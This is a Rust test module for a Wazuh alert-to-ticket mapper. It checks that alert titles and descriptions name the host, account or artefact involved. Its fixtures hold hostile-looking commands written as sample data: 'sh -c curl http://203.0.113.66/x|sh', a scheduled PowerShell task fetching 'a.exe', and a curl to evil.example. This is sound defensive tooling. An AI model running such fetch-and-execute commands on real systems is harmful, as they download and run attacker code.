//! What an analyst reads in the list of alerts, and at the top of one.

use serde_json::{Value, json};

use super::mapped;

/// An alert of agent `web01` with these fields beside.
pub(super) fn of(rule: &str, fields: Value) -> Value {
    let mut alert = json!({"rule": {"id": "1", "level": 10, "description": rule}, "agent": {"id": "001", "name": "web01", "ip": "10.0.0.5"}});
    if let Value::Object(fields) = fields {
        alert.as_object_mut().unwrap().extend(fields);
    }
    alert
}

pub(super) fn windows(event: Value) -> Value {
    let mut alert = json!({"data": {"win": {"system": {"eventID": "1"}}}});
    alert["data"]["win"]["eventdata"] = event;
    alert
}

pub(super) fn assert_titles(table: &[(Value, &str)]) {
    for (alert, expected) in table {
        let title = mapped(alert).title;
        assert_eq!(title, format!("Wazuh: {expected}"), "{alert}");
    }
}

#[test]
fn a_title_names_what_the_alert_is_about_and_no_number_of_a_process() {
    let run = r"HKU\\S-1-5-21-1004336348-1177238915-682003330-1112\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater";
    assert_titles(&[
        (
            of(
                "Run key",
                windows(
                    json!({"image": "C:\\\\Windows\\\\wscript.exe", "processId": "4692", "targetObject": run, "details": "x.vbs"}),
                ),
            ),
            r"Run key | web01 | …1-5-21-1004336348-1177238915-682003330-1112\Software\Microsoft\Windows\CurrentVersion\Run\Updater",
        ),
        (
            of(
                "DNS",
                windows(json!({"image": "C:\\\\a.exe", "processId": "4692", "queryName": "c2.evil.example"})),
            ),
            "DNS | web01 | c2.evil.example",
        ),
        (
            of(
                "Logon failure",
                windows(
                    json!({"targetUserName": "j.doe", "targetDomainName": "CORP", "processId": "0x1a4",
                    "processName": "C:\\\\Windows\\\\System32\\\\svchost.exe", "ipAddress": "-", "workstationName": "WEB01"}),
                ),
            ),
            r"Logon failure | web01 | CORP\j.doe",
        ),
        (
            of(
                "Logon failure",
                windows(json!({"targetUserName": "j.doe", "ipAddress": "203.0.113.9", "ipPort": "50123"})),
            ),
            "Logon failure | web01 | j.doe from 203.0.113.9",
        ),
        (
            of(
                "Access",
                windows(
                    json!({"sourceImage": "C:\\\\x\\\\a.exe", "sourceProcessId": "7", "targetImage": "C:\\\\Windows\\\\lsass.exe"}),
                ),
            ),
            r"Access | web01 | C:\x\a.exe → lsass.exe",
        ),
        (
            of(
                "Ended",
                windows(json!({"image": "C:\\\\x\\\\a.exe", "processId": "7", "user": "CORP\\\\eve"})),
            ),
            r"Ended | web01 | C:\x\a.exe",
        ),
        (
            of(
                "Connection",
                windows(
                    json!({"image": "C:\\\\a.exe", "initiated": "true", "sourceIp": "10.9.9.9", "sourcePort": "50123",
                "destinationIp": "203.0.113.9", "destinationPort": "443"}),
                ),
            ),
            "Connection | web01 | 203.0.113.9 port 443",
        ),
    ]);
}

#[test]
fn a_title_names_the_thing_or_the_account_where_nothing_else_tells_more() {
    assert_titles(&[
        (
            of(
                "Task created",
                windows(
                    json!({"taskName": "\\\\Updater", "subjectUserName": "j.doe", "taskContent": "curl http://evil.example/"}),
                ),
            ),
            r"Task created | web01 | \Updater http://evil.example/",
        ),
        (
            of(
                "Logon",
                windows(
                    json!({"targetUserName": "j.doe", "targetDomainName": "CORP", "processName": "C:\\\\Users\\\\Public\\\\a.exe"}),
                ),
            ),
            r"Logon | web01 | CORP\j.doe by C:\Users\Public\a.exe",
        ),
        (
            of(
                "New user added to the system.",
                json!({"data": {"dstuser": "sysupd", "uid": "0"}}),
            ),
            "New user added to the system. | web01 | sysupd",
        ),
        (
            of("Log cleared", json!({"data": {"srcuser": "k.ito"}})),
            "Log cleared | web01 | k.ito",
        ),
        (
            of(
                "Registry changed",
                json!({"syscheck": {"path": "HKEY_LOCAL_MACHINE\\Run", "value_name": "Evil", "event": "modified"}}),
            ),
            r"Registry changed | web01 | HKEY_LOCAL_MACHINE\Run\Evil",
        ),
        (
            of("New package", json!({"data": {"package": "nginx"}})),
            "New package | web01 | nginx",
        ),
        (
            of(
                "Check: Ensure it is set.",
                json!({"data": {"sca": {"check": {"title": "Ensure it is set."}}}}),
            ),
            "Check: Ensure it is set. | web01",
        ),
        (
            of(
                "Startup type",
                json!({"data": {"win": {"system": {"providerName": "Service Control Manager"}, "eventdata": {"param1": "Updater"}}}}),
            ),
            "Startup type | web01 | Updater",
        ),
        (of("Up", json!({})), "Up | web01"),
    ]);
    let of_the_manager = |event: &str, first: &str| {
        let mut alert = of("Service", windows(json!({"param1": first, "param2": "Spooler"})));
        alert["data"]["win"]["system"] = json!({"providerName": "Service Control Manager", "eventID": event});
        alert
    };
    assert_titles(&[
        (of_the_manager("7009", "30000"), "Service | web01 | Spooler"),
        (of_the_manager("7011", "30000"), "Service | web01 | Spooler"),
        (of_the_manager("7026", "a b c"), "Service | web01"),
        (of_the_manager("7036", "Updater"), "Service | web01 | Updater"),
        (of_the_manager("7036", "1234567"), "Service | web01 | 1234567"),
        (of_the_manager("7000", "30000"), "Service | web01 | 30000"),
        (of_the_manager("7010", "30000"), "Service | web01"),
    ]);
    let mut lockout = of(
        "Locked",
        windows(json!({"targetUserName": "j.doe", "targetDomainName": "WS-FIN-042", "subjectUserName": "DC01$"})),
    );
    lockout["data"]["win"]["system"]["eventID"] = json!("4740");
    assert_titles(&[(lockout, "Locked | web01 | j.doe from WS-FIN-042")]);
}

#[test]
fn a_recorded_call_is_named_by_its_command_and_a_local_account_like_a_machine_by_its_name() {
    let call = |execve: Value| {
        let audit = json!({"exe": "/usr/bin/dash", "file": {"name": "/bin/sh"}, "execve": execve});
        of("Command: /usr/bin/dash.", json!({"data": {"audit": audit}}))
    };
    let execve = json!({"a0": "sh", "a1": "-c", "a2": "curl http://203.0.113.66/x|sh"});
    let account = |event: &str, fields: Value| {
        let mut alert = of("Account", windows(fields));
        alert["data"]["win"]["system"] = json!({"eventID": event, "computer": "WS1.corp.example"});
        alert
    };
    let made = json!({"targetUserName": "backdoor$", "targetDomainName": "WS1", "subjectUserName": "bob", "subjectDomainName": "CORP"});
    let used = json!({"targetUserName": "backdoor$", "targetDomainName": "WS1", "ipAddress": "203.0.113.9"});
    assert_titles(&[
        (
            call(execve),
            "Command: /usr/bin/dash. | web01 | sh -c curl http://203.0.113.66/x|sh",
        ),
        (call(Value::Null), "Command: /usr/bin/dash. | web01 | /bin/sh"),
        (account("4720", made), r"Account | web01 | WS1\backdoor$"),
        (
            account("4624", used),
            r"Account | web01 | WS1\backdoor$ from 203.0.113.9",
        ),
    ]);
}

#[test]
fn a_task_is_shown_with_what_it_fetches_and_not_with_the_names_of_its_xml() {
    let content = |arguments: &str| {
        let namespace = r#"xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\""#;
        let head = r#"<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n"#;
        let program = format!("<Command>powershell.exe</Command><Arguments>{arguments}</Arguments>");
        format!(r"{head}<Task version='1.2' {namespace}>\r\n  <Actions><Exec>{program}</Exec></Actions>\r\n</Task>")
    };
    let escaped = |text: &str| {
        let text = text.replace('&', "&amp;").replace(r#"\""#, "&quot;");
        text.replace('<', "&lt;").replace('>', "&gt;")
    };
    let created = |rule: &str, content: &str| {
        of(
            rule,
            windows(json!({"taskName": r"\\Updater", "subjectUserName": "j.doe", "taskContent": content})),
        )
    };
    let fetching = content("-nop -c &quot;iwr http://203.0.113.66/a.exe&quot;");
    for content in [fetching.clone(), escaped(&fetching), escaped(&escaped(&fetching))] {
        let alert = created("Task created", &content);
        assert_titles(&[(
            alert.clone(),
            r"Task created | web01 | \Updater http://203.0.113.66/a.exe",
        )]);
        let iocs: Vec<_> = mapped(&alert).iocs.into_iter().map(|ioc| ioc.value).collect();
        assert_eq!(iocs, ["203.0.113.66", "http://203.0.113.66/a.exe"], "{content}");
    }
    let quiet = content("-nop");
    assert_titles(&[
        (created("Task created", &quiet), r"Task created | web01 | \Updater"),
        (
            created(r"Task \Updater created", &quiet),
            r"Task \Updater created | web01 | j.doe",
        ),
        (
            created(r"Task \Updater created", &fetching),
            r"Task \Updater created | web01 | http://203.0.113.66/a.exe",
        ),
    ]);
}

#[test]
fn what_a_task_fetches_stands_before_what_is_told_of_it() {
    let told = "See http://docs.example/ &lt;Actions&gt; http://notes.example/";
    let fetch = "<Actions><Exec><Arguments>iwr http://203.0.113.66/a.exe</Arguments></Exec></Actions>";
    let content = format!("<Task><Description>{told}</Description>{fetch}</Task>");
    let escaped = content.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
    let prefixed = content
        .replace("</", "</t:")
        .replace("<Task", "<t:Task")
        .replace("<Actions", "<t:Actions");
    let marked = content.replace("See", "<![CDATA[<Actions>]]> See");
    let commented = format!("<!-- <Actions> http://notes.example/ -->{content}");
    for content in [content, escaped, prefixed, marked, commented] {
        let alert = of(
            "Task created",
            windows(json!({"taskName": r"\\Updater", "taskContent": content})),
        );
        assert_titles(&[(
            alert.clone(),
            r"Task created | web01 | \Updater http://203.0.113.66/a.exe",
        )]);
        let description = mapped(&alert).description.unwrap();
        assert!(description.contains("URL: http://docs.example/"), "{description}");
    }
}

#[test]
fn a_group_stands_beside_who_came_into_it() {
    let change = |member: &str| {
        let mut alert = of(
            "Administrators Group Changed",
            windows(
                json!({"memberName": member, "memberSid": "S-1-5-21-1-500", "targetUserName": "Administrators",
                "targetDomainName": "Builtin", "subjectUserName": "adm.smith"}),
            ),
        );
        alert["data"]["win"]["system"]["eventID"] = json!("4732");
        mapped(&alert)
    };
    let by_sid = change("-");
    assert!(
        by_sid.title.ends_with(" | S-1-5-21-1-500 in Administrators"),
        "{}",
        by_sid.title
    );
    let description = by_sid.description.unwrap();
    for line in ["Group: Administrators", "Member SID: S-1-5-21-1-500", "User: adm.smith"] {
        assert!(description.contains(line), "{line} in {description}");
    }
    let by_name = change("CN=Eve,OU=x");
    assert!(
        by_name.title.ends_with(" | CN=Eve,OU=x in Administrators"),
        "{}",
        by_name.title
    );
}

#[test]
fn what_the_rule_says_already_makes_room_for_what_it_does_not() {
    let call = json!({"data": {"aws": {"eventName": "CreateUser", "sourceIPAddress": "203.0.113.9", "requestParameters": {"userName": "backdoor"},
        "userIdentity": {"arn": "arn:aws:sts::123456789012:assumed-role/Admin/eve"}}}});
    assert_titles(&[
        (
            of("AWS Cloudtrail: iam.amazonaws.com - CreateUser.", call.clone()),
            "AWS Cloudtrail: iam.amazonaws.com - CreateUser. | web01 | backdoor by Admin/eve from 203.0.113.9",
        ),
        (
            of("Cloud", call),
            "Cloud | web01 | CreateUser backdoor by Admin/eve from 203.0.113.9",
        ),
        (
            of(
                "Suricata: Alert - ET SCAN",
                json!({"data": {"alert": {"signature": "ET SCAN"}, "src_ip": "203.0.113.9", "dest_ip": "10.0.0.5"}}),
            ),
            "Suricata: Alert - ET SCAN | web01 | 203.0.113.9",
        ),
        (
            of(
                "Unsafe: ET SCANNER",
                json!({"data": {"alert": {"signature": "ET SCAN"}, "src_ip": "203.0.113.9"}}),
            ),
            "Unsafe: ET SCANNER | web01 | ET SCAN",
        ),
        (
            of(
                "CVE-2024-3094 affects xz-utils",
                json!({"data": {"vulnerability": {"cve": "CVE-2024-3094", "package": {"name": "xz-utils"}}}}),
            ),
            "CVE-2024-3094 affects xz-utils | web01 | CVE-2024-3094",
        ),
    ]);
}

#[test]
fn host_and_artefact_stand_in_every_title_however_long_the_rule_and_they_are() {
    let folder = "folder\\".repeat(400);
    let long = of(
        &"words ".repeat(500),
        json!({"syscheck": {"path": format!("c:\\{folder}evil.exe"), "event": "added"}}),
    );
    let title = mapped(&long).title;
    assert!(
        title.contains(" | web01 | …") && title.ends_with("\\evil.exe"),
        "{title}"
    );
    assert!(title.len() < 400, "{}", title.len());
    let plain = super::mapped_bytes(long.to_string().as_bytes(), true, None).title;
    assert!(
        plain.contains(" | web01 | …") && plain.ends_with("\\evil.exe"),
        "{plain}"
    );
    assert!(plain.len() <= 256, "{}", plain.len());
    let command = format!(
        r#""C:\{}powershell.exe" -nop -enc {}"#,
        "folder\\".repeat(12),
        "A".repeat(3000)
    );
    let title = mapped(&of("x", json!({"data": {"command": command}}))).title;
    assert!(
        title.starts_with("Wazuh: x | web01 | …powershell.exe -nop -enc AAA"),
        "{title}"
    );
}

#[test]
fn what_nobody_sees_in_a_name_pushes_nothing_else_out_of_a_title() {
    let rule = format!("Integrity checksum changed: {}", "words ".repeat(15));
    let rule = rule.trim_end();
    let name = "a\u{1}".repeat(80);
    let fields = [
        json!({"syscheck": {"path": format!("/tmp/{name}/evil.sh")}}),
        json!({"data": {"command": format!("sh {name}")}}),
        json!({"data": {"srcuser": format!("j{name}"), "srcip": "203.0.113.9"}}),
        windows(json!({"sourceImage": format!("C:\\\\{name}.exe"), "targetImage": format!("C:\\\\{name}.exe")})),
    ];
    for fields in fields {
        let mut alert = of(rule, fields);
        alert["agent"]["name"] = json!(format!("web{name}"));
        let title = mapped(&alert).title;
        assert!(title.starts_with(&format!("Wazuh: {rule} | web")), "{title}");
        assert!(title.len() <= 400, "{title}");
        let opened = title.matches("‹U+").count();
        assert_eq!(opened, title.matches("‹U+0001›").count(), "{title}");
    }
    let file = of(rule, json!({"syscheck": {"path": format!("/tmp/{name}/evil.sh")}}));
    assert!(mapped(&file).title.ends_with("‹U+0001›/evil.sh"));
}

#[test]
fn an_active_response_names_its_program_and_whom_it_was_set_on() {
    let response = of(
        "Host Blocked by firewall-drop Active Response",
        json!({"decoder": {"name": "ar_log_json"}, "data": {"version": "1", "command": "add", "parameters": {"extra_args": [], "program": "active-response/bin/firewall-drop",
            "alert": {"agent": {"id": "001", "name": "web01", "ip": "198.51.100.77"}, "rule": {"id": "5712", "description": "sshd: brute force"},
                "data": {"srcip": "203.0.113.9", "srcuser": "root"}}}}}),
    );
    let new = mapped(&response);
    assert!(
        new.title
            .ends_with(" | web01 | active-response/bin/firewall-drop 203.0.113.9"),
        "{}",
        new.title
    );
    let values: Vec<&str> = new.iocs.iter().map(|ioc| ioc.value.as_str()).collect();
    assert_eq!(values, ["203.0.113.9"]);
    let description = new.description.unwrap();
    for line in [
        "Active response: active-response/bin/firewall-drop (add)\n",
        "Answers rule: 5712 sshd: brute force\n",
        "Source: 203.0.113.9\n",
    ] {
        assert!(description.contains(line), "{line} in {description}");
    }
    let rule = "data.parameters.alert.rule.description: sshd: brute force\n";
    assert!(!description.contains(rule), "{description}");
    assert!(
        !description.contains("Command line:") && !description.contains("\nVersion:"),
        "{description}"
    );
    // Any log in JSON may have such fields.
    let mut forged = response.clone();
    forged["decoder"] = json!({"name": "json"});
    let new = mapped(&forged);
    assert!(new.title.ends_with(" | web01 | add"), "{}", new.title);
    let description = new.description.unwrap();
    assert!(
        !description.contains("Active response:") && description.contains(rule),
        "{description}"
    );
    let mut blank = response;
    blank["data"]["parameters"]["program"] = json!("");
    let title = mapped(&blank).title;
    assert!(!title.trim_end().ends_with('|'), "{title}");
}

#[test]
fn no_title_ends_where_a_name_should_stand() {
    for blank in ["", " ", "\t"] {
        let title = mapped(&of(
            "x",
            json!({"decoder": {"name": "ar_log_json"}, "data": {"parameters": {"program": blank}}}),
        ))
        .title;
        assert_eq!(title, "Wazuh: x | web01");
    }
}

#[test]
fn a_device_that_logs_to_the_manager_is_named() {
    let from = |agent: &str, fields: Value| {
        let mut alert = of("Denied", fields);
        alert["agent"] = json!({"id": agent, "name": "mgr"});
        alert["manager"] = json!({"name": "mgr"});
        alert["full_log"] = json!("x");
        let new = mapped(&alert);
        (new.title, new.description.unwrap())
    };
    let (title, description) = from(
        "000",
        json!({"predecoder": {"hostname": "fw1"}, "location": "192.0.2.7", "data": {"srcip": "203.0.113.9"}}),
    );
    assert_eq!(title, "Wazuh: Denied | fw1 192.0.2.7 | 203.0.113.9");
    assert!(description.contains("Reporting host: fw1 192.0.2.7\n"), "{description}");
    let (title, _) = from("000", json!({"data": {"devname": "FGT-01", "srcip": "203.0.113.9"}}));
    assert_eq!(title, "Wazuh: Denied | FGT-01 | 203.0.113.9");
    // A line in JSON has the fields that its writer likes.
    for (location, expected) in [("/var/log/app.json", "mgr: DC01"), ("192.0.2.7", "DC01 192.0.2.7")] {
        for named in [
            json!({"data": {"devname": "DC01", "srcip": "203.0.113.9"}}),
            json!({"predecoder": {"hostname": "DC01"}, "data": {"srcip": "203.0.113.9"}}),
        ] {
            let mut line = named;
            line["decoder"] = json!({"name": "json"});
            line["location"] = json!(location);
            let (title, _) = from("000", line);
            assert_eq!(title, format!("Wazuh: Denied | {expected} | 203.0.113.9"));
        }
    }
    // The manager's own lines, and what a collector brings.
    let (title, description) = from("000", json!({"predecoder": {"hostname": "MGR.corp.example"}}));
    assert!(
        title.ends_with("| mgr") && !description.contains("Reporting host"),
        "{title}: {description}"
    );
    let (title, description) = from(
        "007",
        json!({"data": {"win": {"system": {"computer": "DC01.corp.example"}}}}),
    );
    assert!(
        title.ends_with("| mgr") && description.contains("Reporting host: DC01.corp.example\n"),
        "{title}: {description}"
    );
}

#[test]
fn what_changed_in_a_file_is_shown_beside_the_log_line_without_its_secrets() {
    let secret = ["hunter2-", "Zq8xT1"].concat();
    let diff = format!(
        "3c3\n< PasswordAuthentication no\n---\n> PasswordAuthentication yes\n> password={secret}\nUser: forged"
    );
    let alert = of(
        "Changed",
        json!({"full_log": "File '/etc/x' modified", "syscheck": {"path": "/etc/x", "event": "modified", "diff": diff}}),
    );
    let description = mapped(&alert).description.unwrap();
    assert!(
        description
            .contains("\nDifference\n| 3c3\n| ‹ PasswordAuthentication no\n| ---\n| › PasswordAuthentication yes\n"),
        "{description}"
    );
    assert!(
        !description.contains(&secret) && !description.contains("\nUser: forged"),
        "{description}"
    );
    let long = of(
        "Changed",
        json!({"full_log": "x", "syscheck": {"path": "/etc/x", "diff": "line\n".repeat(100_000)}}),
    );
    assert!(mapped(&long).description.unwrap().len() < 5_000);
    let value = of(
        "Changed",
        json!({"full_log": "x", "syscheck": {"path": "HKEY_LOCAL_MACHINE\\Run", "value_name": "Evil"}}),
    );
    let description = mapped(&value).description.unwrap();
    assert!(description.contains("Registry value: Evil\n"), "{description}");
}
